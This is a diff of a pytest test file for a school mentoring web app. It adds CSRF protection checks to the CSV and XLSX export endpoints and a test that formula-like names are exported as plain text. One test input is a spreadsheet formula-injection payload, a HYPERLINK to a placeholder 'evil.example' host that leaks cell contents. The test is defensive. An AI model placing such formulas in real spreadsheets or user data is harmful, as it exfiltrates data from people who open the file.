@@ -17,7 +17,7 @@ from bank_helpers import (
     post,
     teacher,
 )
-from conftest import section_labels
+from conftest import csrf_token, section_labels
 from marshmallow import ValidationError
 from openpyxl import load_workbook
 
@@ -146,27 +146,84 @@ def test_mentor_bank_filters_by_competency_and_subject(school, curator):
     assert "Словесова" in page and "Числова" not in page
 
 
+EXPORT_FORM_RE = re.compile(r'<form method="post" action="([^"]+/export\.(csv|xlsx)[^"]*)"')
+
+
+def export_buttons(client, page: str) -> dict[str, str]:
+    """The export forms of a bank list page: format → action URL, as a browser posts it."""
+    html = client.get(page).get_data(as_text=True)
+    return {fmt: action.replace("&amp;", "&") for action, fmt in EXPORT_FORM_RE.findall(html)}
+
+
 def test_export_csv_and_xlsx_are_logged(school, make_user, logged_in):
     enter_mentee(consented(teacher(school, "Юнова", "Ася")), MENTEE_ANSWERS)
     enter_mentee(consented(teacher(school, "Старова", "Вера")), OLDER)
     db.session.commit()
     director = logged_in(make_user(Role.DIRECTOR, school))
+    page = f"/s/{school.slug}/banks/mentees/?young_only=y"
+    buttons = export_buttons(director, page)
+    assert set(buttons) == {"csv", "xlsx"} and "young_only=y" in buttons["csv"]
 
-    response = director.get(f"/s/{school.slug}/banks/mentees/export.csv?young_only=y")
+    response = post(director, buttons["csv"], {}, token_from=page)
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
     assert rows[0][:2] == ["ФИО", "Категория"]
     assert [row[0] for row in rows[1:]] == ["Юнова Ася Игоревна"]
     assert "Взаимодействие с родителями обучающихся" in rows[1][5]
 
-    response = director.get(f"/s/{school.slug}/banks/mentees/export.xlsx")
+    response = post(director, f"/s/{school.slug}/banks/mentees/export.xlsx", {},
+                    token_from=page)
     sheet = load_workbook(io.BytesIO(response.data)).active
     assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
         "Старова Вера Игоревна", "Юнова Ася Игоревна"]
     assert [e.payload for e in events_of("bank.exported")] == [
         {"bank": "mentees", "rows": 1, "format": "csv"},
         {"bank": "mentees", "rows": 2, "format": "xlsx"}]
-    assert director.get(f"/s/{school.slug}/banks/mentees/export.pdf").status_code == 404
+    assert post(director, f"/s/{school.slug}/banks/mentees/export.pdf", {},
+                token_from=page).status_code == 404
+
+
+def test_no_other_site_can_start_an_export(school, make_user, logged_in, app):
+    """A link, an <img> or a form on another site reaches the export without a token."""
+    enter_mentee(consented(teacher(school, "Юнова", "Ася")), MENTEE_ANSWERS)
+    db.session.commit()
+    director = logged_in(make_user(Role.DIRECTOR, school))
+    export = f"/s/{school.slug}/banks/mentees/export.csv"
+
+    response = director.get(export)
+    assert response.status_code == 405 and "GET" not in response.headers["Allow"]
+    assert director.post(export).status_code == 400
+    page = director.get(f"/s/{school.slug}/banks/mentees/")
+    other_browser = app.test_client()  # a token of another session is worth nothing here
+    foreign = csrf_token(other_browser, "/login")
+    assert director.post(export, data={"csrf_token": foreign}).status_code == 400
+    assert page.status_code == 200 and events_of("bank.exported") == []
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formulas_in_names_are_exported_as_text(school, make_user, logged_in, fmt):
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+7(900)1", "-2+3", "@SUM(A1:A9)",
+             "\tТабова", "=1+1"]
+    for index, name in enumerate(names):
+        enter_mentee(consented(teacher(school, name, f"Имя{index}", middle_name="")),
+                     MENTEE_ANSWERS)
+    db.session.commit()
+    director = logged_in(make_user(Role.DIRECTOR, school))
+    page = f"/s/{school.slug}/banks/mentees/"
+
+    response = post(director, f"/s/{school.slug}/banks/mentees/export.{fmt}", {},
+                    token_from=page)
+
+    assert response.status_code == 200
+    expected = sorted(f"{name} Имя{index}" for index, name in enumerate(names))
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+        assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in expected)
+        return
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in cells) == expected
+    assert {cell.data_type for cell in cells} == {"s"}
 
 
 @pytest.mark.parametrize("outsider", ["curator of another school", "methodologist", "mentor"])
@@ -179,9 +236,12 @@ def test_bank_pages_are_hidden_from_everyone_but_the_schools_staff(
             "methodologist": lambda: make_user(Role.METHODOLOGIST, school.municipality),
             "mentor": lambda: make_user(Role.MENTOR, school)}[outsider]()
     client = logged_in(user)
-    for path in ("mentees/", "mentors/", "mentees/export.csv", "mentees/export.xlsx",
-                 f"mentees/entries/{entry.id}", f"mentees/enter/{entry.teacher_id}"):
+    for path in ("mentees/", "mentors/", f"mentees/entries/{entry.id}",
+                 f"mentees/enter/{entry.teacher_id}"):
         assert client.get(f"/s/{school.slug}/banks/{path}").status_code == 404, path
+    for path in ("mentees/export.csv", "mentees/export.xlsx"):
+        assert post(client, f"/s/{school.slug}/banks/{path}", {},
+                    token_from=f"/s/{school.slug}/").status_code == 404, path
     assert events_of("bank.exported") == []
 
 
